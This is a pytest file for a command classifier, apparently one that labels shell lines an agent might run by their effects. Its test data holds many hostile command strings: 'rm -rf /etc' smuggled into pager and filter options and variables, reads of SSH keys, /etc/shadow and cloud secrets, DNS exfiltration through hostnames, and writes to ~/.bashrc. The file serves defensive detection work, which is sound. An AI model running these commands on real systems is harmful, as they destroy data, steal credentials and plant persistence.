"""The table of programs: its examples, and what it refuses."""

from __future__ import annotations

from collections import Counter

import pytest
from command_effects import SHOP, kinds_in, read_line
from table_examples import read_examples

from lockgate.core.ruling.effects.activity import Activity
from lockgate.core.ruling.effects.programs.program_rows import (
    NAME_COLUMNS,
    NAMES,
    OPTION_COLUMNS,
    OPTIONS,
    PACKAGE,
    PROGRAM_COLUMNS,
    PROGRAMS,
    TABLE,
    find_row,
    make_row,
)
from lockgate.core.tables import Example, read_table

EXAMPLES = [
    *read_examples(PACKAGE, TABLE, PROGRAMS, PROGRAM_COLUMNS),
    *read_examples(PACKAGE, TABLE, NAMES, NAME_COLUMNS),
    *read_examples(PACKAGE, TABLE, OPTIONS, OPTION_COLUMNS),
]


@pytest.mark.parametrize("example", EXAMPLES, ids=lambda example: example.text)
def test_a_row_reads_its_examples(example: Example) -> None:
    line, _, effect = example.text.rpartition(" => ")
    kind, _, target = effect.partition(" ")
    effects = read_line(line)
    if not example.hit:
        assert kind not in {kind for kind, _ in effects}
    elif target:
        assert (kind, target) in effects
    else:
        assert kind in {kind for kind, _ in effects}


def test_the_longest_command_words_count() -> None:
    row, used = find_row("pip", ["config", "set", "global.index-url", "https://x.example"])
    assert row is not None
    assert (row.operands, used) == (("skip", "src"), 2)


def test_a_word_that_no_row_has_is_unknown() -> None:
    row, used = find_row("uv", ["unheard-of"])
    assert row is not None
    assert (row.effect, used) == ("unknown", 0)
    assert read_line("cargo +/tmp/x build") == {("runs-program", "cargo")}
    assert find_row("unheard-of", []) == (None, 0)


def test_no_program_stands_in_two_places() -> None:
    names = [
        entry for _, _, programs in read_table(PACKAGE, TABLE, NAMES, NAME_COLUMNS) for entry in programs.split(", ")
    ]
    rows = [
        f"{name} {entry}".removesuffix(" -")
        for names, words, *_ in read_table(PACKAGE, TABLE, PROGRAMS, PROGRAM_COLUMNS)
        for name in names.split()
        for entry in words.split(",")
    ]
    assert [entry for entry, count in Counter([*names, *rows]).items() if count > 1] == []


@pytest.mark.parametrize(
    ("options", "effect"), [("write -o", "-"), ("write:", "-"), ("-", "Prints"), ("-", "prints(third)")]
)
def test_a_row_that_cannot_be_read_stops_the_start(options: str, effect: str) -> None:
    with pytest.raises(ValueError, match=r"programs\.tbl"):
        make_row("-", "read", options, effect)


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("ldd /tmp/evil", ("runs-program", "/tmp/evil")),
        ("hash -p /tmp/evil git", ("runs-program", "/tmp/evil")),
        ("mapfile -C 'rm -rf /etc' -c 1 lines", ("deletes-outside", "/etc")),
        ("let 'a[$(id)]'", ("unreadable", "")),
        ("test -v 'a[$(id)]'", ("unreadable", "")),
        ("logger -n e.example -f notes.txt", ("sends-data", "e.example")),
        ("date -s 2020-01-01", ("changes-service", "2020-01-01")),
        ("hostname evil", ("changes-service", "evil")),
        ("hostnamectl hostname evil", ("changes-service", "evil")),
        ("timedatectl set-ntp false", ("changes-service", "false")),
        ("loginctl enable-linger ada", ("schedules-job", "ada")),
        ("loginctl kill-user ada", ("changes-service", "ada")),
        ("journalctl --vacuum-time=1s", ("changes-service", "journalctl")),
        ("dmesg -C", ("changes-service", "dmesg")),
        ("ss -K dst 192.0.2.9", ("changes-service", "dst")),
        ("ip a a 192.0.2.9/24 dev eth0", ("changes-service", "a a 192.0.2.9/24 dev eth0")),
        ("ip -b /tmp/x", ("runs-program", "/tmp/x")),
        ("ip netns exec n rm -rf /etc", ("deletes-outside", "/etc")),
        ("ifconfig eth0 192.0.2.9", ("changes-service", "192.0.2.9")),
        ("nvidia-smi -pl 100", ("changes-service", "100")),
        ("neofetch --config /tmp/x", ("runs-program", "/tmp/x")),
        ("nm --plugin /tmp/x.so a.o", ("runs-program", "/tmp/x.so")),
        ("ssh-add -s /tmp/x.so", ("runs-program", "/tmp/x.so")),
        ("cloc --extract-with='rm -rf /etc' x", ("deletes-outside", "/etc")),
        ("scc -o ~/.bashrc", ("writes-startup-file", "~/.bashrc")),
        ("pager .env", ("reads-secret", ".env")),
        ("editor -c ':!sh'", ("unreadable", "")),
        ("man -C /tmp/x ls", ("runs-program", "/tmp/x")),
        ("npx sw_vers", ("installs-package", "sw_vers")),
        ("mvn deploy", ("publishes", "mvn")),
    ],
)
def test_a_program_that_mostly_looks_can_do_more(line: str, effect: tuple[str, str]) -> None:
    assert effect in read_line(line)


@pytest.mark.parametrize(
    "line",
    """date -Iseconds
date -d yesterday +%s
hostname -I
hostnamectl
hostnamectl status
timedatectl show
loginctl list-sessions
journalctl -u nginx -n 50 --no-pager
dmesg -T
ss -tlnp
ip a
ip -br addr show dev eth0
ip route get 192.0.2.9
ifconfig eth0
route -n
arp -a
nvidia-smi --query-gpu=name --format=csv
ldd /usr/bin/python3
read -r name
[ -v HOME ]
compgen -c
file -b logo.png
ssh-add -l""".splitlines(),
)
def test_a_question_to_the_machine_only_looks(line: str) -> None:
    assert read_line(line) == {("looks", "")}


def test_the_longest_row_that_fits_counts() -> None:
    assert read_line("npm audit") == {("looks", "")}
    assert read_line("npm audit fix") == {("runs-project-task", "npm")}
    assert read_line("kubectl -n web get pods") == {("looks", "")}
    assert read_line("kubectl -n web scale deploy/a") == {("changes-service", "deploy/a")}


def test_a_program_that_no_row_names_is_a_guess() -> None:
    assert read_line("frobnicate all") == {("runs-program", "frobnicate")}


@pytest.mark.parametrize(
    "line",
    [
        "man -P 'rm -rf /etc' ls",
        "bat --pager='rm -rf /etc' x",
        "ugrep --filter='rm -rf /etc' x",
        "sdiff --diff-program='rm -rf /etc' a b",
        "svn diff --diff-cmd='rm -rf /etc'",
        "helm template x y --post-renderer 'rm -rf /etc'",
        "docker ps --pager 'rm -rf /etc'",
        "rg --pre 'rm -rf /etc' x",
        "sort --compress-program='rm -rf /etc' x",
        "git grep -O'rm -rf /etc' x",
        "mlr --prepipe 'rm -rf /etc' cat x",
        "compgen -C 'rm -rf /etc'",
        "go test -exec 'rm -rf /etc' ./...",
        "pylint --init-hook='import os; os.system(\"rm -rf /etc\")' src",
        "EDITOR=\"sh -c 'rm -rf /etc'\" git commit",
        "PAGER='rm -rf /etc' git log",
        "dpkg-buildpackage -r'rm -rf /etc' -b",
    ],
)
def test_a_command_in_an_option_or_a_variable_is_read(line: str) -> None:
    assert ("deletes-outside", "/etc") in read_line(line)


@pytest.mark.parametrize(
    "line",
    [
        "uniq a ~/.bashrc",
        "less -o ~/.bashrc a",
        "base64 -d -o ~/.bashrc a",
        "sdiff -o ~/.bashrc a b",
        "hg cat -o ~/.bashrc a",
        "docker sbom x -o ~/.bashrc",
        "cargo tree --output ~/.bashrc",
        "xxd -r a ~/.bashrc",
        "sponge ~/.bashrc",
        "iconv -f a -t b -o ~/.bashrc x",
        "xsltproc -o ~/.bashrc a b",
        "xmllint --output ~/.bashrc a",
        "dos2unix -n a ~/.bashrc",
        "pdftotext a.pdf ~/.bashrc",
        "tree -o ~/.bashrc",
        "/usr/bin/time -o ~/.bashrc ls",
        "git diff --output=~/.bashrc",
        "gcc -o ~/.bashrc a.c",
    ],
)
def test_a_file_that_an_option_or_a_place_names_is_written(line: str) -> None:
    assert ("writes-startup-file", "~/.bashrc") in read_line(line)


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("pytest /tmp/x", ("runs-program", "/tmp/x")),
        ("python -m pytest -c /tmp/x", ("runs-program", "/tmp/x")),
        ("pytest -c/tmp/x", ("runs-program", "/tmp/x")),
        ("eslint --rulesdir=/tmp/x src", ("runs-program", "/tmp/x")),
        ("npm --prefix /tmp/x test", ("runs-program", "/tmp/x")),
        ("go vet -vettool=/tmp/x ./...", ("runs-program", "/tmp/x")),
        ("java -jar ~/x.jar", ("runs-program", "~/x.jar")),
        ("tsc -p ../other", ("runs-program", "../other")),
        ("jest --config https://h.example/a.js", ("runs-download", "h.example")),
        ("playwright open https://h.example/a", ("requests", "h.example")),
        ("redis-server --dir /root/.ssh", ("changes-login", "/root/.ssh")),
        ("go env -w GOPROXY=https://h.example", ("uses-package-source", "h.example")),
        ("go env -w GOINSECURE=*", ("disables-check", "GOINSECURE")),
        ("poetry config repositories.x https://h.example/simple", ("uses-package-source", "h.example")),
        ("ip route add default via 192.0.2.9", ("changes-service", "route add default via 192.0.2.9")),
        ("logger -f .env", ("reads-secret", ".env")),
    ],
)
def test_code_and_settings_from_elsewhere_have_this_effect(line: str, effect: tuple[str, str]) -> None:
    assert effect in read_line(line)


@pytest.mark.parametrize(
    "line",
    [
        "pytest tests/unit -c setup.cfg",
        "pytest --junitxml=/tmp/r.xml --basetemp /tmp/t",
        "cmake -S . -B /tmp/build",
        "gcc -I/usr/include -L/usr/lib -o /tmp/a a.c",
        "ruff check /tmp/x.py",
        "wait-on http://localhost:3000",
        "PYTHONPATH=src pytest",
        "NODE_OPTIONS=--max-old-space-size=4096 npm run build",
        "EDITOR=true git commit",
        "PAGER='less -R' git log",
        "GIT_SEQUENCE_EDITOR=\"sed -i 's/pick/fixup/'\" git rebase -i HEAD~2",
        "CC='ccache gcc' make",
        "KUBECONFIG=~/.kube/config kubectl get pods",
        "JAVA_TOOL_OPTIONS=-Djava.io.tmpdir=/tmp mvn test",
        "MAKEFLAGS=-j4 make",
        "ip -s link",
        "less +G app.log",
        "uniq -c a",
        "poetry config virtualenvs.in-project true",
    ],
)
def test_ordinary_options_and_variables_work_here(line: str) -> None:
    assert kinds_in(line) <= {"looks", "runs-project-task", "writes-scratch", "commits", "edits-project"}


def test_a_scratch_file_that_an_agent_wrote_itself_is_its_own() -> None:
    written = Activity(written=frozenset({"/tmp/test_x.py"}))
    assert ("computes", "") in read_line("pytest /tmp/test_x.py", SHOP, written)


@pytest.mark.parametrize(
    "line",
    [
        "aws configure get aws_secret_access_key",
        "kubectl get --raw /api/v1/namespaces/x/secrets",
        "npm config get //registry.npmjs.org/:_authToken",
        "terraform output -json",
        "docker inspect -f '{{.Config.Env}}' web",
        "ps eww",
        "ps auxe",
        "mapfile < .env",
        "jq -n env",
    ],
)
def test_command_lines_that_show_secrets_read_them(line: str) -> None:
    assert "reads-secret" in kinds_in(line)


@pytest.mark.parametrize(
    "line",
    ["aws configure get region", "npm config get registry", "terraform output -raw vpc_id", "ps -ef", "ps -C node"],
)
def test_their_ordinary_neighbours_only_look(line: str) -> None:
    assert kinds_in(line) == {"looks"}


@pytest.mark.parametrize(
    "line",
    [
        "gawk -e 'BEGIN{system(x)}'",
        "mlr -n put 'end{system(\"id\")}'",
        "exiftool -if 'system(\"id\")' a.jpg",
        "vimdiff -c ':!sh' a b",
        "hg log --config hooks.pre-log=id",
        "jj log --config ui.pager=x",
        "cargo metadata --config 'build.rustc=\"x\"'",
        "nix eval --expr 'builtins.exec [\"id\"]'",
        "kustomize build --enable-exec .",
        "xmllint --shell a.xml",
        "pygmentize -x -l lexer.py a",
    ],
)
def test_an_expression_that_runs_something_cannot_be_read(line: str) -> None:
    assert "unreadable" in kinds_in(line)


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("awk -f /tmp/x.awk a", ("runs-program", "/tmp/x.awk")),
        ("sed -f /tmp/x.sed a", ("runs-program", "/tmp/x.sed")),
        ("gradle tasks -I /tmp/x.gradle", ("runs-program", "/tmp/x.gradle")),
        ("exiftool -config /tmp/x a.jpg", ("runs-program", "/tmp/x")),
        ("od -c ~/.ssh/id_rsa", ("reads-secret", "~/.ssh/id_rsa")),
        ("wc --files0-from=/etc/shadow", ("reads-secret", "/etc/shadow")),
        ("kubectl config view --raw", ("reads-secret", "kubectl config")),
        ("pulumi config get --show-secrets x", ("reads-secret", "pulumi config")),
        ("kubectl diff -f http://x.example/a.yaml", ("requests", "x.example")),
        ("npm view left-pad --registry=http://x.example", ("requests", "x.example")),
        ("glow https://x.example/a.md", ("requests", "x.example")),
        ("getent hosts $(cat notes).x.example", ("sends-data", "x.example")),
        ("mtr $(whoami).x.example", ("sends-data", "x.example")),
        ("date 010100002020", ("changes-service", "010100002020")),
    ],
)
def test_a_program_that_looks_does_more_with_these_words(line: str, effect: tuple[str, str]) -> None:
    assert effect in read_line(line)


@pytest.mark.parametrize(
    "line",
    [
        "docker ps --filter name=web --format '{{.Names}}'",
        "kubectl get pods -o yaml",
        "gh pr view https://github.com/o/r/pull/1",
        "mlr --icsv --opretty sort -f a then head x.csv",
        "exiftool a.jpg",
        "yq '.a.load' a.yaml",
        "date +%Y%m%d",
        "getent hosts localhost",
        "helm template x ./chart",
        "od -c a.bin",
        "cargo metadata --format-version 1",
    ],
)
def test_ordinary_words_of_the_same_programs_only_look(line: str) -> None:
    assert kinds_in(line) <= {"looks"}


@pytest.mark.parametrize(
    "line", ["bazel test //...", "bazel test --keep_going //web/...", "bazel run //web:all", "buck2 build //web:all"]
)
def test_a_label_of_a_build_tool_is_no_path(line: str) -> None:
    assert kinds_in(line) == {"runs-project-task"}


@pytest.mark.parametrize(
    "line",
    [
        "bazel --bazelrc //tmp/x build a",
        "bazel --bazelrc //tmp/x/... build a",
        "bazel --bazelrc //home/ada/... build a",
        "bazel build --package_path //tmp/x:a a",
        "pytest //tmp/x",
    ],
)
def test_a_path_that_looks_like_a_label_is_one(line: str) -> None:
    assert "runs-program" in kinds_in(line)


@pytest.mark.parametrize("line", ["ldconfig", "sudo ldconfig -v", "dpkg-buildpackage -us -uc -rfakeroot", "debuild -b"])
def test_a_system_tool_without_a_path_or_a_hook_works_here(line: str) -> None:
    assert kinds_in(line) <= {"looks", "runs-project-task"}


@pytest.mark.parametrize(
    "line",
    ["sudo ldconfig ./lib", "ldconfig -f x.conf", "ldconfig -vn x", "debuild --clean-hook=x", "debuild -eCC=/tmp/x"],
)
def test_a_system_tool_with_one_cannot_be_read(line: str) -> None:
    assert "unreadable" in kinds_in(line)
